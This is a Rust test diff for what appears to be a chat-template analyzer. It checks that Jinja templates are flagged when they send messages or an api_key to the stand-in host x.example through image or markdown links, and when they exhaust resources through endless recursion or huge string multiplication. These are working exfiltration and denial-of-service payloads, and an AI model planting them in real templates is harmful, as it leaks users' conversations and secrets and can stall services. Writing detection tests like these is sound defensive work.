@@ -156,3 +156,68 @@ fn last_of_a_path() {
     let last: Vec<&str> = facts.attributes.iter().map(TemplateName::last).collect();
     assert_eq!(last, ["b c", "b", "c", "g"]);
 }
+
+#[test]
+fn addresses_that_take_what_is_given() {
+    for template in [
+        "<img src='http://x.example/?q={{ messages[-1].content }}'>",
+        "![a](https://x.example/{{ messages | tojson | urlencode }})",
+        "{{ '![a](https://x.example/?q=' ~ messages[-1]['content'] ~ ')' }}",
+        "{{ 'https://x.example/?q=' + m + '&' + n }}",
+        "{% set u = 'https://x.example/?q=' %}{{ u }}{{ messages }}",
+        "{% set u = 'https://x.example/?q=' %}{{ u ~ messages[0].content }}",
+        "{{ 'https://x.example/%s' | format(messages) }}",
+        "{{ 'https://x.example/{}'.format(messages) }}",
+        "{{ 'https://x.example/Q' | replace('Q', messages[0].content) }}",
+        "{{ ['https://x.example/', messages] | join }}",
+        "https://x.example/?q={% for m in messages %}{{ m.content }}{% endfor %}",
+        "https://{{ 'x.example' }}/?q={{ api_key }}",
+    ] {
+        assert_eq!(read(template).appended.len(), 1, "{template}");
+    }
+    for template in [
+        "See https://x.example/ for more. {{ messages[0].content }}",
+        "<a href='https://x.example/'>{{ m.content }}</a>",
+        "{{ 'https://x.example/' ~ 3 }}",
+        "{{ 'https://x.example/%s' | format('a') }}",
+        "{{ m.content | replace('https://x.example/', '') }}",
+        "{{ 'time: ' ~ m.content }}",
+        "{% for i in m.image_urls %}<img src=\"{{ i }}\">{% endfor %}",
+    ] {
+        assert_eq!(names(&read(template).appended), Vec::<&str>::new(), "{template}");
+    }
+}
+
+#[test]
+fn what_does_not_end() {
+    for template in [
+        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
+        "{% macro a() %}{{ b() }}{% endmacro %}{% macro b() %}x{{ a() }}{% endmacro %}{{ a() }}",
+        "{% macro m(x) %}{% if true %}{{ m(x) }}{% endif %}{% endmacro %}{{ m(1) }}",
+        "{% macro m(x) %}{% for i in [1] %}{{ m(x) }}{% endfor %}{% endmacro %}{{ m(1) }}",
+        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(50) }}",
+        "{% macro m() %}{% call m() %}x{% endcall %}{% endmacro %}{{ m() }}",
+        "{% for i in [1] recursive %}{{ loop([1]) }}{% endfor %}",
+        "{% for i in range(9999) %}{% for j in range(9999) %}x{% endfor %}{% endfor %}",
+        "{% for i in range(200) %}{% for j in range(200) %}{% for k in 'abcdefgh' %}x{% endfor %}{% endfor %}{% endfor %}",
+        "{% set l = [1] %}{% for i in l %}{% do l.append(i) %}{% endfor %}",
+        "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
+        "{{ 'A' * 1000 * 1000 * 1000 }}",
+        "{{ 'A' * 100000000 }}",
+        "{{ [0] * 100000000 }}",
+        "{{ messages * 1000000 }}",
+    ] {
+        assert!(!read(template).huge.is_empty(), "{template}");
+    }
+    for template in [
+        "{% macro show(x) %}{% if x is mapping %}{% for k in x %}{{ show(x[k]) }}{% endfor %}{% endif %}{% endmacro %}{{ show(tools) }}",
+        "{% macro m(x, n) %}{{ m(x.a, n + 1) if x else '' }}{{ m(x.b, n + 1) if x.b else '' }}{% endmacro %}{{ m(tools, 0) }}",
+        "{% macro m(x) %}{{ x and m(x.parent) }}{% endmacro %}{{ m(messages) }}",
+        "{% for m in messages %}{% for i in range(10) %}x{% endfor %}{% endfor %}",
+        "{% for m in messages %}{% set out = out ~ m.content %}{% endfor %}",
+        "{% set l = [] %}{% for m in messages %}{% do l.append(m) %}{% endfor %}",
+        "{{ '=' * 80 }}{{ ' ' * (depth * 2) }}",
+    ] {
+        assert_eq!(names(&read(template).huge), Vec::<&str>::new(), "{template}");
+    }
+}
